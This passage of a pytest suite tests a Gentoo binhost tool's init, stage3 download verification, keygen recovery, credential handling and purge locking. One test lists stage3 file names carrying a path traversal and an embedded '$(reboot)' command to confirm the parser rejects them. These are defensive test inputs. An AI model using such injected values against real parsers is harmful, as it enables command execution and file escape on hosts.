            subprocess.run(["gpgconf", "--homedir", str(home), "--kill", "all"], capture_output=True,
                           timeout=30)
    shutil.rmtree(path, ignore_errors=True)


@pytest.fixture(scope="module")
def stage3_mirror(mirror):  # noqa: F811
    """test_init's local mirror; the gpg-agents its signing started are stopped afterwards."""
    yield mirror
    for home in (mirror["release"], mirror["other"]):
        subprocess.run(["gpgconf", "--homedir", str(home), "--kill", "all"], capture_output=True, timeout=30)


def test_init_force_keeps_the_key_and_the_packages(short_dir, stage3_mirror, portage_bin):
    tmp_path, mirror = short_dir, stage3_mirror
    first, root, config = init(tmp_path, mirror["url"], mirror["keyring"])
    assert first.returncode == 0, first.stderr
    assert f"a key from {mirror['keyring']}" in first.stdout
    keygen = cli(portage_bin, config, "keygen")
    assert keygen.returncode == 0, keygen.stderr
    fingerprint = signing_key_of(config)
    home = tmp_path / "c/gnupg"  # beside the configuration c.conf, outside the root
    assert secret_fingerprints(home) == [fingerprint]
    package = root / "var/cache/binpkgs/app-misc/fake/fake-1-1.gpkg.tar"
    package.parent.mkdir(parents=True)
    package.write_bytes(b"a package built before\n")

    # While a build holds the root's lock (beside the root), --force refuses and changes nothing.
    with open(tmp_path / ".binhost.build.lock", "a+") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        held.write("pid 4242\n")
        held.flush()
        busy, _, _ = init(tmp_path, mirror["url"], mirror["keyring"], "--force")
    assert busy.returncode == 1 and "a build is running on" in busy.stderr and "pid 4242" in busy.stderr, \
        busy.stderr
    assert package.read_bytes() == b"a package built before\n"
    assert not [p for p in tmp_path.iterdir() if p.name.startswith("binhost.") and p.name.endswith(".bak")]

    again, _, _ = init(tmp_path, mirror["url"], mirror["keyring"], "--force")
    assert again.returncode == 0, again.stderr
    assert f"a key from {mirror['keyring']}" in again.stdout
    assert (root / "etc/os-release").is_file()
    assert secret_fingerprints(home) == [fingerprint]
    assert stat.S_IMODE(home.stat().st_mode) == 0o700
    assert package.read_bytes() == b"a package built before\n"
    backups = [p for p in tmp_path.iterdir() if p.name.startswith("binhost.") and p.name.endswith(".bak")]
    assert len(backups) == 1 and (backups[0] / "etc/os-release").is_file()
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith((".binhost.new", ".binhost.download"))]
    assert signing_key_of(config) == fingerprint

    exported = cli(portage_bin, config, "keygen", "--export")
    assert exported.returncode == 0, exported.stderr
    assert "BEGIN PGP PUBLIC KEY BLOCK" in exported.stdout
    kept = cli(portage_bin, config, "keygen")
    assert kept.returncode == 1 and "already exists" in kept.stderr
    assert signing_key_of(config) == fingerprint


def test_init_force_with_a_stage3_that_fails_to_extract_keeps_everything(short_dir, stage3_mirror, portage_bin):
    tmp_path, mirror = short_dir, stage3_mirror
    first, root, config = init(tmp_path, mirror["url"], mirror["keyring"])
    assert first.returncode == 0, first.stderr
    assert cli(portage_bin, config, "keygen").returncode == 0
    fingerprint = signing_key_of(config)
    package = root / "var/cache/binpkgs/app-misc/fake/fake-1-1.gpkg.tar"
    package.parent.mkdir(parents=True)
    package.write_bytes(b"a package built before\n")
    before = snapshot(root)
    # Genuinely signed and matching its DIGESTS, but a cut xz stream: tar fails halfway.
    broken = tmp_path / "stage3-amd64-openrc-20261121T000000Z.tar.xz"
    data = tiny_stage3()
    broken.write_bytes(data[: len(data) * 2 // 3])
    digests = broken.with_name(broken.name + ".DIGESTS")
    payload = broken.read_bytes()
    digests.write_text(f"# SHA512 HASH\n{hashlib.sha512(payload).hexdigest()}  {broken.name}\n")
    sign(mirror["release"], digests, clear=True)
    sign(mirror["release"], broken)
    failed, _, _ = init(tmp_path, mirror["url"], mirror["keyring"], "--force", "--stage3", str(broken))
    assert_one_line_refusal(failed)
    assert snapshot(root) == before
    assert secret_fingerprints(tmp_path / "c/gnupg") == [fingerprint]
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith((".binhost.", "binhost."))
                and p.name != ".binhost.build.lock"]


def test_a_refused_download_leaves_no_download_directory(tmp_path, stage3_mirror):
    mirror = stage3_mirror
    def flip(directory):
        tarball = next(directory.glob("*.tar.xz"))
        data = bytearray(tarball.read_bytes())
        data[len(data) // 2] ^= 0xFF
        tarball.write_bytes(bytes(data))
    url, server = corrupt_copy(mirror, tmp_path, flip)
    try:
        result, root, _ = init(tmp_path, url, mirror["keyring"])
    finally:
        server.shutdown()
        server.server_close()
    assert_one_line_refusal(result, "does not match its DIGESTS")
    assert not root.exists()
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".binhost.")]


def test_the_roots_make_conf_is_read_through_no_link_out_of_it(gb, tmp_path):
    """make.conf in the binhost root is the target's copy: a link to this machine's files is read
    as nothing, a FIFO does not hang, a link inside the root (absolute from it) is followed."""
    secret = tmp_path / "secret.conf"
    secret.write_text('CFLAGS="-march=this-machines-secret"\n')
    root = tmp_path / "root"
    (root / "etc/portage").mkdir(parents=True)
    make_conf = root / "etc/portage/make.conf"
    make_conf.symlink_to(secret)
    assert gb.make_conf_texts(str(root)) == "" and gb.make_conf_cpu_flags(str(root)) == []
    make_conf.unlink()
    os.mkfifo(make_conf)
    assert gb.make_conf_texts(str(root)) == ""
    make_conf.unlink()
    (root / "etc/portage/real.conf").write_text('CFLAGS="-march=armv8-a+crc"\n')
    make_conf.symlink_to("/etc/portage/real.conf")
    assert gb.make_conf_cpu_flags(str(root)) == ["-march=armv8-a+crc"]
    make_conf.unlink()
    make_conf.mkdir()
    (make_conf / "10-local").symlink_to(secret)
    (make_conf / "20-flags").write_text('CFLAGS="-O2 -mcpu=cortex-a72"\n')
    assert gb.make_conf_cpu_flags(str(root)) == ["-mcpu=cortex-a72"]


def test_stage3_subarch_takes_only_a_plain_name_from_the_list(gb, tmp_path):
    base = tmp_path / "www/releases/arm/autobuilds"
    base.mkdir(parents=True)
    (base / "latest-stage3.txt").write_text(
        "# Latest as of ...\n"
        "20260101T000000Z/stage3-armv7a_hardfp-openrc-20260101T000000Z.tar.xz 1\n"
        "20260101T000000Z/stage3-armv6j_hardfp-openrc-20260101T000000Z.tar.xz 1\n"
        "20260101T000000Z/stage3-../../evil-systemd-20260101T000000Z.tar.xz 1\n"
        "20260101T000000Z/stage3-a$(reboot)-musl-20260101T000000Z.tar.xz 1\n")
    with serving(gb, tmp_path / "www") as port:
        url = f"http://127.0.0.1:{port}/releases/arm/autobuilds"
        assert gb.stage3_subarch(url, "arm", "openrc", "armv7l") == "armv7a_hardfp"
        with pytest.raises(gb.BinhostError, match="armv6j_hardfp, armv7a_hardfp"):
            gb.stage3_subarch(url, "arm", "openrc", "riscv64")
        # A 32-bit userland on a 64-bit kernel (uname -m: aarch64): the target's CHOST decides.
        for chost, subarch in (("armv6j-unknown-linux-gnueabihf", "armv6j_hardfp"),
                               ("armv7a-unknown-linux-gnueabihf", "armv7a_hardfp")):
            assert gb.stage3_subarch(url, "arm", "openrc", "aarch64", chost) == subarch
        with pytest.raises(gb.BinhostError, match=r"for this machine \(armv5tel-softfloat-linux-gnueabi\)"):
            gb.stage3_subarch(url, "arm", "openrc", "aarch64", "armv5tel-softfloat-linux-gnueabi")
        for variant in ("systemd", "musl"):
            with pytest.raises(gb.BinhostError, match="lists no"):
                gb.stage3_subarch(url, "arm", variant, "armv7l")


# ---- 6. Ctrl-C during keygen -------------------------------------------------------------------


@pytest.fixture
def short_tmp():
    """A short temporary directory: gpg-agent's socket path in a gpg-home must stay under the
    Unix limit of 107 bytes, which pytest's own directories can exceed."""
    path = Path(tempfile.mkdtemp(prefix="gbk-"))
    try:
        yield path
    finally:
        for home in path.rglob("*gnupg*"):
            if home.is_dir():
                subprocess.run(["gpgconf", "--homedir", str(home), "--kill", "all"], check=False,
                               capture_output=True)
        shutil.rmtree(path, ignore_errors=True)


def test_keygen_adopts_the_key_an_interrupted_keygen_left(short_tmp, portage_bin):
    need(shutil.which("gpg") and shutil.which("gpgconf"), "gpg is needed")
    tmp_path = short_tmp
    home = tmp_path / "keys/gnupg"
    config = tmp_path / "c.conf"
    config.write_text(f"[binhost]\nroot = {tmp_path / 'root'}\ngpg-home = {home}\n")
    before = config.read_text()
    made = cli(portage_bin, config, "keygen")
    assert made.returncode == 0, made.stderr
    fingerprint = signing_key_of(config)
    # Interrupted after the key moved into place: the configuration was not written.
    config.write_text(before)
    hint = cli(portage_bin, config, "keygen", "--export")
    assert hint.returncode == 2 and "keygen" in hint.stderr

    adopted = cli(portage_bin, config, "keygen")
    assert adopted.returncode == 0, adopted.stderr
    assert "Adopting" in adopted.stdout and fingerprint in adopted.stdout
    assert signing_key_of(config) == fingerprint
    assert secret_fingerprints(home) == [fingerprint]
    assert not [p.name for p in (tmp_path / "keys").iterdir() if p.name.startswith(".gnupg-new.")]
    exported = cli(portage_bin, config, "keygen", "--export")
    assert exported.returncode == 0 and "BEGIN PGP PUBLIC KEY BLOCK" in exported.stdout
    again = cli(portage_bin, config, "keygen")
    assert again.returncode == 1 and "already exists" in again.stderr


# ---- 7. xpak packages before sign --------------------------------------------------------------


def test_sign_names_xpak_packages_it_cannot_sign(world):
    pkgdir = world.base / "xpak-pkgdir"
    shutil.copytree(world.pkgdir, pkgdir)
    (pkgdir / "app-misc/old-1.0.tbz2").write_bytes(b"BZh91AY&SY" + b"\0" * 64 + b"XPAKPACK")
    gpkgs = {path: path.read_bytes() for path in pkgdir.rglob("*.gpkg.tar")}
    keys = "".join(line + "\n" for line in world.config.read_text().splitlines()
                   if line.startswith(("signing-key", "gpg-home")))
    config = world.base / "xpak.conf"
    config.write_text(world.binhost_section(pkgdir=pkgdir) + keys)
    result = world.cli("sign", config=config, check=False)
    assert result.returncode == 0, result.stderr
    warning = next((line for line in result.stderr.splitlines() if "app-misc/old-1.0.tbz2" in line), "")
    assert warning.startswith(" * ") and "Cannot sign" in warning, result.stderr
    assert "GPKG" in warning and "build --oneshot" in warning
    assert {path: path.read_bytes() for path in pkgdir.rglob("*.gpkg.tar")} == gpkgs


# ---- 8. the binrepos entry with a password in it -----------------------------------------------


def test_setup_target_with_an_auth_file_writes_the_entry_0600(world):
    auth = world.base / "auth-0600"
    auth.write_text("portage:entry%secret\n")
    auth.chmod(0o600)
    root, config = world.new_target("auth-mode", extra_binhost=f"auth-file = {auth}\n")
    binrepos = root / "etc/portage/binrepos.conf"
    binrepos.mkdir()
    entry = binrepos / "gentoo-binhost.conf"
    entry.write_text("[gentoo-binhost]\nsync-uri = http://old.invalid/\n")
    entry.chmod(0o644)
    setup = world.cli("setup-target", config=config, check=False)
    assert setup.returncode == 0, setup.stderr
    assert "entry%secret" not in setup.stdout + setup.stderr
    text = entry.read_text()
    assert "portage:entry%%secret@127.0.0.1" in text
    assert stat.S_IMODE(entry.stat().st_mode) == 0o600
    assert not [p.name for p in binrepos.iterdir() if ".new." in p.name]
    again = world.cli("setup-target", config=config)
    assert "already points to" in again.stdout
    assert stat.S_IMODE(entry.stat().st_mode) == 0o600


def test_no_password_on_any_command_line_the_tool_starts(world):
    """With an auth file, setup-target, doctor and install start ssh (and through it sh, sudo and
    emerge on the target) and gpg: the password is in none of their argv (ps shows argv to every
    user), here or on the target; it travels on stdin."""
    password = "argv%capture"
    auth = world.base / "auth-argv"
    auth.write_text(f"portage:{password}\n")
    auth.chmod(0o600)
    root, config = world.new_target("auth-argv", extra_binhost=f"auth-file = {auth}\n")
    shims, log = world.base / "argv-shims", world.base / "argv.log"
    shims.mkdir()
    for program in ("ssh", "gpg", "wget", "curl"):
        real = shutil.which(program)
        if real:
            (shims / program).write_text(f"#!/bin/sh\nprintf '%s\\0' {program} \"$@\" >> {log}\nexec {real} \"$@\"\n")
            (shims / program).chmod(0o755)
    env = {"PATH": f"{shims}:{world.portage_bin}:{os.environ['PATH']}", "NO_COLOR": "1"}
    said = {}
    for args in (["setup-target"], ["doctor"], ["install", "app-misc/hello"]):
        result = said[args[0]] = run([sys.executable, SCRIPT, "-c", config, *args], env=env, check=False,
                                     timeout=600)
        assert args[0] == "doctor" or result.returncode == 0, result.stdout + result.stderr
        assert password not in result.stdout + result.stderr
    assert "portage:argv%%capture@" in (root / "etc/portage/binrepos.conf/gentoo-binhost.conf").read_text()
    assert "WARN credentials: auth-argv's sync-uri holds a password" in said["doctor"].stdout, said["doctor"].stdout
    started = log.read_bytes().split(b"\0")
    assert any(word == b"ssh" for word in started) and len(started) > 10, started[:20]
    assert not [word for word in started if password.encode() in word or b"argv%%capture" in word]


def test_purge_refuses_while_a_build_holds_the_lock_or_a_mount_is_inside_even_through_a_symlink(tmp_path):
    """remove-target --purge takes the build lock (beside the root, which it deletes) at once or
    refuses, and looks for mounts under the resolved path: a symlink in the configured path does
    not hide a bind mount from it."""
    need(os.geteuid() == 0 and shutil.which("mount"), "bind mounts need root")
    main, own = tmp_path / "binhost", tmp_path / "real-own"
    for root in (main, own):
        (root / "etc/portage").mkdir(parents=True)
    (tmp_path / "own").symlink_to(own)
    config = tmp_path / "c.conf"
    text = (f"[binhost]\nroot = {main}\n\n[target mine]\nhost = root@127.0.0.1\n"
            f"binhost-root = {tmp_path / 'own'}\n")
    config.write_text(text)

    def purge():
        return subprocess.run([sys.executable, SCRIPT, "-c", str(config), "--color=n", "remove-target", "mine",
                               "--purge"], capture_output=True, text=True, timeout=60)

    with open(tmp_path / ".real-own.build.lock", "a+") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        held.write("pid 4242\n")
        held.flush()
        refused = purge()
    assert refused.returncode == 1 and "a build is running on" in refused.stderr and "pid 4242" in refused.stderr, \
        refused.stderr
    assert own.is_dir() and config.read_text() == text

    (own / "var/cache/distfiles").mkdir(parents=True)
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside/keep-me").write_text("a file of the build machine\n")
    run(["mount", "--bind", tmp_path / "outside", own / "var/cache/distfiles"])
    try:
        refused = purge()
    finally:
        run(["umount", own / "var/cache/distfiles"])
    assert refused.returncode == 1 and "has mounts inside" in refused.stderr, refused.stderr
    assert (tmp_path / "outside/keep-me").is_file() and own.is_dir() and config.read_text() == text

    purged = purge()
    assert purged.returncode == 0, purged.stderr
    assert not own.exists() and (tmp_path / "outside/keep-me").is_file()
